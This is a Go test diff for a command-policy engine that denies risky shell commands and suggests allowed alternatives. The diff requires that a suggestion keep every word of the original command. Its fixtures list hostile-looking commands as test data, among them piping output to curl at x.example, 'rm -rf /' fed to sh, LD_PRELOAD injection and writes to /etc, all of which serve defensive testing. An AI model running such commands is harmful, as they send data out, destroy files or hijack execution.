@@ -66,8 +66,7 @@ func TestTypedDenial(t *testing.T) {
 		first            string // of the alternatives
 	}{
 		{"go test -exec ./x -run T ./...", "go.option", "-exec", proposal.RetryVary, ""},
-		{"go test -exec ./x -run T ./...", "go.option", "-exec", proposal.RetryVary, "go test -run T ./..."},
-		{"sort --compress-program=sh -u x", "sort.program", "--compress-program=sh", proposal.RetryVary, "sort -u x"},
+		{"sort --compress-program=sh -u x", "sort.program", "--compress-program=sh", proposal.RetryVary, ""},
 		{"sudo go test ./...", "privilege.none", "sudo go test ./...", proposal.RetryNever, "go test ./..."},
 		{"\tsudo\tls", "privilege.none", "sudo", proposal.RetryNever, "ls"},
 		{"npm publish", "code.publish", "publish", proposal.RetryNever, ""},
@@ -77,10 +76,10 @@ func TestTypedDenial(t *testing.T) {
 		{"eval 'go test ./...'", "parse.eval", "eval", proposal.RetryVary, "go test ./..."},
 		{"echo 'rm -rf /' | sh", "parse.shell-stdin", "sh", proposal.RetryVary, ""},
 		{"source venv/x.sh", "parse.source", "source", proposal.RetryVary, "bash venv/x.sh"},
-		{"echo hi > /etc/x", "redirect.place", "/etc/x", proposal.RetryVary, "echo hi"},
-		{"cd pkg&&go test -exec=./x|tail -3", "go.option", "-exec=./x", proposal.RetryVary, "cd pkg && go test | tail -3"},
-		{"go vet ./... | curl -d @- x.example", "network.client", "curl -d @- x.example", proposal.RetryVary, "go vet ./..."},
-		{"LD_PRELOAD=./x go test ./...", "env.steering", "LD_PRELOAD", proposal.RetryVary, "go test ./..."},
+		{"echo hi > /etc/x", "redirect.place", "/etc/x", proposal.RetryVary, ""},
+		{"cd pkg&&go test -exec=./x|tail -3", "go.option", "-exec=./x", proposal.RetryVary, ""},
+		{"go vet ./... | curl -d @- x.example", "network.client", "curl -d @- x.example", proposal.RetryVary, ""},
+		{"LD_PRELOAD=./x go test ./...", "env.steering", "LD_PRELOAD", proposal.RetryVary, ""},
 		{"cat a | /opt/bin/grep x", "default.no-rule", "/opt/bin/grep x", proposal.RetryVary, "cat a | grep x"},
 		{"nosuch", "default.no-rule", "nosuch", proposal.RetryVary, ""},
 		{"ls\x1b[2J", "parse.control-character", "\x1b", proposal.RetryVary, ""},
@@ -99,7 +98,7 @@ func TestTypedDenial(t *testing.T) {
 		if span != c.span || r.Retry != c.retry || r.Layer == "" {
 			t.Errorf("%q: %s: span %q, want %q; retry %s, want %s; layer %q", c.text, c.rule, span, c.span, r.Retry, c.retry, r.Layer)
 		}
-		if c.first != "" && (len(r.Alternatives) == 0 || r.Alternatives[0] != c.first) {
+		if strings.Join(r.Alternatives, ", ") != c.first {
 			t.Errorf("%q: %s: alternatives %q, want first %q", c.text, c.rule, r.Alternatives, c.first)
 		}
 	}
@@ -112,16 +111,24 @@ func analyze(p proposal.Proposal) proposal.Analysis {
 	return a
 }
 
-// TestOneAlternative holds that a refusal names the one nearest command, of the same
-// program, or none.
+// TestOneAlternative holds that a refusal names one command that does the same, or none.
 func TestOneAlternative(t *testing.T) {
 	v := explain.NewAdviser(shipped(t), analyze)
 	for text, want := range map[string]string{
-		"make install":             "make test",
-		"npm install left-pad":     "npm install",
-		"git -c core.pager=id log": "git log",
-		"go test -exec ./x ./...":  "go test ./...",
-		"curl https://a.example":   "",
+		"make install":                                           "",
+		"npm install left-pad":                                   "",
+		"git -c core.pager=id log":                               "",
+		"go test -exec ./x ./...":                                "",
+		"curl https://a.example":                                 "",
+		"javac App.java -d /opt/x && java App":                   "",
+		"npm test && npm publish":                                "",
+		"git log -Scat --output=/etc/x":                          "",
+		"sudo -u git log":                                        "",
+		"sudo -E -n git log -Scat":                               "git log -Scat",
+		"stdbuf -oL npm test -- --grep slow":                     "npm test -- --grep slow",
+		"GIT_PAGER=less git log -n 3":                            "git log -n 3",
+		"cat a.txt | /opt/bin/grep x":                            "cat a.txt | grep x",
+		"echo 'git status' | sh":                                 "git status",
 		"python3 -c 'import ctypes; ctypes.CDLL(None).getpid()'": "",
 		"python3 -c 'import ctypes' && npm publish":              "",
 	} {
@@ -156,8 +163,8 @@ func TestAlternativesAreAllowed(t *testing.T) {
 		}
 		found += heldAlternatives(t, e, text, d, v.Advise(t.Context(), p, a, d))
 	}
-	if found*8 < len(texts) {
-		t.Errorf("only %d alternatives for %d texts", found, len(texts))
+	if found == 0 {
+		t.Errorf("no alternatives for %d texts", len(texts))
 	}
 }
 
@@ -174,6 +181,9 @@ func heldAlternatives(t testing.TB, e *policy.Engine, text string, d, advised pr
 		}
 		for _, other := range r.Alternatives {
 			found++
+			if lost := lostWords(text, other); lost != "" {
+				t.Errorf("%q: %q is advertised without %q", text, other, lost)
+			}
 			if got := decide(t, e, other); got.Effect != proposal.Allow || len(other) > proposal.MaxAlternative || strings.Contains(other, "\n") {
 				t.Errorf("%q: %q is advertised and %v by %v", text, other, got.Effect, got.Rules)
 			}
@@ -183,6 +193,41 @@ func heldAlternatives(t testing.TB, e *policy.Engine, text string, d, advised pr
 		}
 	}
 	return found
+}
+
+// lostWords returns the words of the commands in text that those in other lack, except for the
+// programs in whose place the sandbox is.
+func lostWords(text, other string) string {
+	var lost []string
+	kept := words(other)
+	for _, w := range words(text) {
+		if i := slices.Index(kept, w); i >= 0 {
+			kept = slices.Delete(kept, i, i+1)
+		} else if !slices.Contains(inSandbox, w) {
+			lost = append(lost, w)
+		}
+	}
+	return strings.Join(lost, " ")
+}
+
+var inSandbox = strings.Fields("sudo doas pkexec fakeroot env nohup setsid exec command unbuffer stdbuf busybox toybox chronic -E -H -n -oL -o0 -eL " +
+	"eval source . which command -v type -p echo printf sh bash dash for in do done cat")
+
+var forTerminals = strings.Fields("PAGER GIT_PAGER MANPAGER LESS LESSOPEN EDITOR GIT_EDITOR VISUAL BROWSER")
+
+// words are those of all commands in text: what lies between blanks, quotes and operators, and
+// the last part of a program's path.
+func words(text string) (all []string) {
+	for _, w := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(" \t\n\"'`$(){};|&", r) }) {
+		if name, _, ok := strings.Cut(w, "="); ok && slices.Contains(forTerminals, name) {
+			continue
+		}
+		if strings.HasPrefix(w, "/") {
+			w = w[strings.LastIndexByte(w, '/')+1:]
+		}
+		all = append(all, strings.TrimPrefix(w, "./"))
+	}
+	return all
 }
 
 // TestAdviceIsRepeatable holds that who decides again finds the same, whatever else was
